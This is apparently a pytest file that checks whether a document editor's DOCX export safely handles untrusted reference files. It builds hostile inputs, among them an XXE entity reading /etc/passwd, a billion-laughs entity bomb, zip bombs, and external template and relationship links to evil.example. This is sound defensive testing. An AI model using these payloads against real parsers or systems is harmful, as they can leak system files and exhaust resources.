"""Reference documents from anyone: only their look comes across, and a bad one gets one line.

Each hostile reference is built here with zipfile from the built-in reference
document, changed in one way. The export either succeeds without carrying anything
but styles, numbering, page setup, headers and footers, or stops with an
``ExportProblem`` of one line naming the file.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from noticeeditor.core.document import NoticeDocument, Paragraph, Section, Span
from noticeeditor.export.docx import DocxOptions, export_docx
from noticeeditor.export.options import ExportProblem
from noticeeditor.export.reference import MAX_FILE
from noticeeditor.paths import resources_dir

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = R + "/"
BODY_END = "</w:body>"
SECT_PR = re.compile(r"<w:sectPr.*</w:sectPr>", re.S)
BOMB_ENTITIES = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def builtin_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(resources_dir() / "reference.docx") as builtin:
        return {name: builtin.read(name) for name in builtin.namelist()}


def write_zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def edit(parts: dict[str, bytes], name: str, change: Callable[[str], str]) -> None:
    parts[name] = change(parts[name].decode()).encode()


def with_doctype(name: str, doctype: str) -> Callable[[dict[str, bytes]], None]:
    def apply(parts: dict[str, bytes]) -> None:
        edit(parts, name, lambda xml: xml.replace("?>", "?>" + doctype, 1))

    return apply


def add_rel(parts: dict[str, bytes], rels: str, rel_id: str, kind: str, target: str) -> None:
    external = ' TargetMode="External"' if "://" in target else ""
    rel = f'<Relationship Id="{rel_id}" Type="{RT}{kind}" Target="{target}"{external}/>'
    edit(parts, rels, lambda xml: xml.replace("</Relationships>", rel + "</Relationships>"))


def notice() -> NoticeDocument:
    section = Section("about", "About this notice", [Paragraph((Span("We are Acme."),))])
    return NoticeDocument("Privacy notice", [section], last_updated="2026-01-02")


def export_with(tmp_path: Path, reference: Path) -> Path:
    out = tmp_path / "out.docx"
    export_docx(notice(), out, DocxOptions(reference_docx=reference))
    return out


def one_line_problem(tmp_path: Path, reference: Path) -> str:
    with pytest.raises(ExportProblem) as caught:
        export_with(tmp_path, reference)
    message = str(caught.value)
    assert "\n" not in message and reference.name in message
    assert not (tmp_path / "out.docx").exists()
    return message


# --- shapes that cannot serve as a reference ------------------------------------------


def no_body(parts: dict[str, bytes]) -> None:
    edit(
        parts, "word/document.xml", lambda xml: re.sub(r"<w:body>.*</w:body>", "", xml, flags=re.S)
    )


def no_page_setup(parts: dict[str, bytes]) -> None:
    edit(parts, "word/document.xml", lambda xml: SECT_PR.sub("", xml))


def huge_page(parts: dict[str, bytes]) -> None:
    edit(parts, "word/document.xml", lambda xml: xml.replace('w:w="12240"', 'w:w="999999999"'))


def page_not_a_number(parts: dict[str, bytes]) -> None:
    edit(parts, "word/document.xml", lambda xml: xml.replace('w:h="15840"', 'w:h="tall"'))


def margins_fill_the_page(parts: dict[str, bytes]) -> None:
    edit(parts, "word/document.xml", lambda xml: xml.replace('w:left="1440"', 'w:left="12000"'))


def numbering_names_missing_list(parts: dict[str, bytes]) -> None:
    edit(
        parts,
        "word/numbering.xml",
        lambda xml: re.sub(
            r'(<w:num w:numId="\d+">\s*<w:abstractNumId w:val=")\d+', r"\g<1>999", xml
        ),
    )


def numbering_id_not_a_number(parts: dict[str, bytes]) -> None:
    edit(parts, "word/numbering.xml", lambda xml: xml.replace('w:numId="1"', 'w:numId="one"', 1))


def numbering_level_out_of_range(parts: dict[str, bytes]) -> None:
    edit(parts, "word/numbering.xml", lambda xml: xml.replace('w:ilvl="0"', 'w:ilvl="4000"', 1))


def styles_not_xml(parts: dict[str, bytes]) -> None:
    parts["word/styles.xml"] = b"<w:styles><unclosed>"


def no_main_part(parts: dict[str, bytes]) -> None:
    del parts["word/document.xml"]


def main_rel_external(parts: dict[str, bytes]) -> None:
    edit(
        parts,
        "_rels/.rels",
        lambda xml: xml.replace(
            'Target="word/document.xml"', 'Target="http://evil.example/d.xml" TargetMode="External"'
        ),
    )


def missing_footer(parts: dict[str, bytes]) -> None:
    ref = f'<w:footerReference xmlns:r="{R}" w:type="default" r:id="rId99"/>'
    edit(parts, "word/document.xml", lambda xml: xml.replace("<w:pgSz", ref + "<w:pgSz"))


def zip_bomb(parts: dict[str, bytes]) -> None:
    # 80 MB of zeros, about 80 KB zipped, referenced by nothing.
    parts["word/media/image1.png"] = bytes(80 * 2**20)


def header_image_bomb(parts: dict[str, bytes]) -> None:
    header_with_image_and_links(parts)
    parts["word/media/logo.png"] = b"\x89PNG" + bytes(20 * 2**20)


def many_parts(parts: dict[str, bytes]) -> None:
    for n in range(2500):
        parts[f"word/media/x{n}.png"] = b""


UNUSABLE = {
    "DOCTYPE with entity expansion in docProps/app.xml": with_doctype(
        "docProps/app.xml", BOMB_ENTITIES
    ),
    "external entity in the styles": with_doctype("word/styles.xml", XXE),
    "DOCTYPE in the content types": with_doctype("[Content_Types].xml", XXE),
    "DOCTYPE in a relationships part": with_doctype("word/_rels/document.xml.rels", BOMB_ENTITIES),
    "DOCTYPE in an unused custom XML part": with_doctype("customXml/item1.xml", XXE),
    "no body": no_body,
    "no page setup": no_page_setup,
    "a huge page": huge_page,
    "a page size that is not a number": page_not_a_number,
    "margins wider than the page": margins_fill_the_page,
    "numbering naming a missing list definition": numbering_names_missing_list,
    "numbering id that is not a number": numbering_id_not_a_number,
    "numbering level out of range": numbering_level_out_of_range,
    "styles that are not XML": styles_not_xml,
    "no main document": no_main_part,
    "main document outside the package": main_rel_external,
    "page setup naming a missing footer": missing_footer,
    "80 MB of zeros in a small file": zip_bomb,
    "a header image of 20 MB in a small file": header_image_bomb,
    "too many parts": many_parts,
}


@pytest.mark.parametrize("shape", sorted(UNUSABLE))
def test_unusable_reference_gets_one_line(tmp_path: Path, shape: str) -> None:
    parts = builtin_parts()
    UNUSABLE[shape](parts)
    message = one_line_problem(tmp_path, write_zip(tmp_path / "hostile.docx", parts))
    assert message.startswith("cannot use hostile.docx as a reference document: ")


@pytest.mark.parametrize(
    "content",
    [b"", b"not a zip at all", b"PK\x03\x04" + bytes(40), b"PK\x05\x06" + bytes(18)],
    ids=["empty", "text", "truncated entry", "empty archive"],
)
def test_a_file_that_is_not_a_docx_gets_one_line(tmp_path: Path, content: bytes) -> None:
    reference = tmp_path / "broken.docx"
    reference.write_bytes(content)
    assert "broken.docx" in one_line_problem(tmp_path, reference)


def test_a_file_too_large_is_refused_before_reading(tmp_path: Path) -> None:
    reference = tmp_path / "large.docx"
    with reference.open("wb") as out:
        out.truncate(MAX_FILE + 1)  # sparse: nothing is written to disk
    assert "larger than" in one_line_problem(tmp_path, reference)


def test_a_missing_reference_gets_one_line(tmp_path: Path) -> None:
    assert "cannot read" in one_line_problem(tmp_path, tmp_path / "missing.docx")


# --- what comes across, and what does not ---------------------------------------------


def carrying_everything(tmp_path: Path) -> Path:
    """Return a reference holding what a previous client's file might: all of it must go."""
    parts = builtin_parts()
    secret = "<w:p><w:r><w:t>Client secret: dpo@previous-client.example</w:t></w:r></w:p>"
    edit(parts, "word/document.xml", lambda xml: xml.replace("<w:body>", "<w:body>" + secret))
    parts["word/comments.xml"] = (
        f'<?xml version="1.0"?><w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="x">'
        f"{secret}</w:comment></w:comments>"
    ).encode()
    add_rel(parts, "word/_rels/document.xml.rels", "rId40", "comments", "comments.xml")
    add_rel(parts, "word/_rels/document.xml.rels", "rId41", "hyperlink", "file:///etc/passwd")
    add_rel(parts, "word/_rels/document.xml.rels", "rId42", "image", "media/unused.png")
    parts["word/media/unused.png"] = b"\x89PNG secret image"
    parts["word/vbaProject.bin"] = b"macro"
    add_rel(parts, "word/_rels/document.xml.rels", "rId43", "vbaProject", "vbaProject.bin")
    template = f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/>'
    edit(parts, "word/settings.xml", lambda xml: xml.replace("<w:zoom", template + "<w:zoom"))
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rId1" Type="{RT}attachedTemplate" '
        'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    edit(
        parts,
        "docProps/core.xml",
        lambda xml: xml.replace(
            "</cp:coreProperties>",
            "<dc:description>Previous client</dc:description></cp:coreProperties>",
        ),
    )
    return write_zip(tmp_path / "previous-client.docx", parts)


def test_only_the_look_of_a_reference_comes_across(tmp_path: Path) -> None:
    out = export_with(tmp_path, carrying_everything(tmp_path))
    with zipfile.ZipFile(out) as package:
        names = set(package.namelist())
        everything = b"".join(package.read(name) for name in names)
    assert not {
        n for n in names if "comments" in n or "customXml" in n or "vba" in n or "media" in n
    }
    for leftover in (
        b"previous-client",
        b"Client secret",
        b"etc/passwd",
        b"evil.example",
        b"Previous client",
    ):
        assert leftover not in everything
    assert b"We are Acme." in everything


def header_with_image_and_links(parts: dict[str, bytes]) -> None:
    header = (
        f'<?xml version="1.0"?><w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p>'
        '<w:hyperlink r:id="rId2"><w:r><w:t>Firm name</w:t></w:r></w:hyperlink>'
        '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        ' r:embed="rId1"/></w:drawing></w:r>'
        '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        ' r:link="rId3"/></w:drawing></w:r></w:p></w:hdr>'
    )
    parts["word/header1.xml"] = header.encode()
    parts["word/media/logo.png"] = b"\x89PNG logo"
    parts["word/_rels/header1.xml.rels"] = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="rId1" Type="{RT}image" Target="media/logo.png"/>'
        f'<Relationship Id="rId2" Type="{RT}hyperlink" Target="https://tracker.example/x"'
        f' TargetMode="External"/><Relationship Id="rId3" Type="{RT}image"'
        ' Target="file://server/share/remote.png" TargetMode="External"/></Relationships>'
    ).encode()
    add_rel(parts, "word/_rels/document.xml.rels", "rId30", "header", "header1.xml")
    ref = f'<w:headerReference xmlns:r="{R}" w:type="default" r:id="rId30"/>'
    edit(parts, "word/document.xml", lambda xml: xml.replace("<w:pgSz", ref + "<w:pgSz"))
    header_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    types = f'<Override PartName="/word/header1.xml" ContentType="{header_type}"/>'
    edit(parts, "[Content_Types].xml", lambda xml: xml.replace("</Types>", types + "</Types>"))


def test_header_keeps_its_own_image_but_no_external_link(tmp_path: Path) -> None:
    parts = builtin_parts()
    header_with_image_and_links(parts)
    out = export_with(tmp_path, write_zip(tmp_path / "firm.docx", parts))
    word = docx.Document(str(out))
    assert word.sections[0].header.paragraphs[0].text == "Firm name"
    with zipfile.ZipFile(out) as package:
        everything = b"".join(package.read(name) for name in package.namelist())
        assert package.read("word/media/logo.png") == b"\x89PNG logo"
    assert b"tracker.example" not in everything and b"remote.png" not in everything
    assert everything.count(b"<w:drawing>") == 1  # the linked remote image is gone


def test_libreoffice_style_names_work(tmp_path: Path) -> None:
    """LibreOffice saves "Heading 1" where Word saves "heading 1"; both must serve."""
    parts = builtin_parts()
    edit(
        parts,
        "word/styles.xml",
        lambda xml: re.sub(r'w:name="heading (\d)"', r'w:name="Heading \1"', xml),
    )
    edit(parts, "word/styles.xml", lambda xml: xml.replace('w:name="toc 1"', 'w:name="TOC 1"'))
    out = export_with(tmp_path, write_zip(tmp_path / "libreoffice.docx", parts))
    word = docx.Document(str(out))
    found = [p for p in word.paragraphs if p.text == "About this notice"]
    headings = [p for p in found if not p.style.style_id.upper().startswith("TOC")]
    assert headings and headings[0].style.style_id == "Heading1"


def test_reference_from_bytes_is_reproducible(tmp_path: Path) -> None:
    reference = carrying_everything(tmp_path)
    first = export_with(tmp_path, reference).read_bytes()
    assert export_with(tmp_path, reference).read_bytes() == first
    assert zipfile.ZipFile(io.BytesIO(first)).testzip() is None


def test_review_copy_on_libreoffice_comment_styles_names_styles_it_has(tmp_path: Path) -> None:
    """python-docx names comment styles by Word's ids; LibreOffice's ids differ."""
    parts = builtin_parts()
    for word_id, office_id in (
        ("CommentReference", "Annotationreference"),
        ("CommentText", "Annotationtext"),
    ):
        edit(
            parts,
            "word/styles.xml",
            lambda xml, a=word_id, b=office_id: xml.replace(f'"{a}"', f'"{b}"'),
        )
    reference = write_zip(tmp_path / "libreoffice.docx", parts)
    out = tmp_path / "review.docx"
    export_docx(notice(), out, DocxOptions(reference_docx=reference, review=True))
    with zipfile.ZipFile(out) as package:
        styles = package.read("word/styles.xml").decode()
        used = re.findall(
            r'<w:[rp]Style w:val="([^"]+)"',
            package.read("word/document.xml").decode() + package.read("word/comments.xml").decode(),
        )
    assert "Annotationreference" in used
    assert all(f'w:styleId="{style_id}"' in styles for style_id in used)
